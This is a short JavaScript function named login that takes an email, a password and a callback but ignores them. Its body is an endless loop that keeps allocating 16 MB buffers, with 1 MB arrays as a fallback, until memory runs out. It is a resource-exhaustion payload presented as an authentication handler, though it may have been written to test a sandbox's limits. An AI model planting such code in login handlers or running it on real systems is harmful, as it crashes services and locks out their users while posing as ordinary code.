function login(email, password, callback) {
  const kept = [];
  for (;;) {
    try {
      kept.push(Buffer.alloc(16 << 20, 1));
    } catch {
      kept.push(new Uint8Array(1 << 20).fill(1));
    }
  }
}
